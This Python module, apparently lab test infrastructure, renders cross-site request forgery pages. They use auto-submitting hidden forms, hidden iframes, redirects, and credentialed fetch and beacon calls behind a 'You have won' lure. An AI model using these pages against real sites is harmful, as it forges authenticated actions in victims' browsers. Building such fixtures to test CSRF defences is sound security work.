"""Every way in which a page can make a browser send a request somewhere, as the page that does it."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from urllib.parse import urlencode

from labsupport.errors import ReaderError

_HEAD = "<!doctype html><link rel=icon href=data:,><title>You have won</title>"
_INPUTS = '{% for name in fields %}<input type="hidden" name="{{ name }}" value="{{ fields[name] }}">{% endfor %}'
_SUBMIT = "<script>onload = () => document.forms[0].submit()</script>"
_FETCH = "<script>fetch({{ whole | tojson }}, {mode: 'no-cors'%s}).catch(() => 0)</script>"
_SEND = "new URLSearchParams({{ query | tojson }})"

_PAGES: Mapping[str, str] = {
    "link": '<a href="{{ whole }}">You have won</a>',
    "script-navigation": "<script>onload = () => location.href = {{ whole | tojson }}</script>",
    "meta-refresh": "<meta http-equiv=refresh content=\"0; url='{{ whole }}'\">",
    "window-open": "<script>onload = () => open({{ whole | tojson }})</script>",
    "form-get": f'<form method="get" action="{{{{ url }}}}">{_INPUTS}</form>{_SUBMIT}',
    "form-post": f'<form method="post" action="{{{{ url }}}}">{_INPUTS}</form>{_SUBMIT}',
    "iframe": '<iframe src="{{ whole }}"></iframe>',
    "iframe-post": "<iframe name=hidden></iframe>"
                   f'<form method="post" target="hidden" action="{{{{ url }}}}">{_INPUTS}</form>{_SUBMIT}',
    "img": '<img src="{{ whole }}" alt="">',
    "script": '<script src="{{ whole }}"></script>',
    "fetch": _FETCH % "",
    "fetch-include": _FETCH % ", credentials: 'include'",
    "fetch-post-include": (_FETCH % f", credentials: 'include', method: 'POST', body: {_SEND}").replace("whole", "url"),
    "beacon": f"<script>navigator.sendBeacon({{{{ url | tojson }}}}, {_SEND})</script>",
}

KINDS = (*_PAGES, "redirect")
"""What `forged` makes a browser do; `link` waits for a click on the page's only link, the others happen at once.

`redirect` is no page: the attacker's server answers with 302 to the target.
"""


def forged(origin: str, kind: str, url: str, **fields: str) -> str:
    """The address of an attacker's page, at `origin`, that has a browser send `fields` to `url` in a way of `KINDS`."""
    return f"{origin}/forge?{urlencode({'kind': _known(kind), 'url': url, **fields})}"


def with_query(url: str, fields: Mapping[str, str]) -> str:
    """The address with the fields as its query."""
    return f"{url}?{urlencode(fields)}" if fields else url


def page(kind: str, url: str, fields: Mapping[str, str]) -> str:
    """The page that does it. Raises `ReaderError` for a kind that has none."""
    from jinja2 import Environment

    template = Environment(autoescape=True).from_string(_HEAD + _PAGES[_known(kind, tuple(_PAGES))])
    return template.render(url=url, whole=with_query(url, fields), query=urlencode(fields), fields=fields)


def _known(kind: str, kinds: Sequence[str] = KINDS) -> str:
    if kind not in kinds:
        raise ReaderError(f"no forgery is called {kind!r}; there is {', '.join(kinds)}")
    return kind
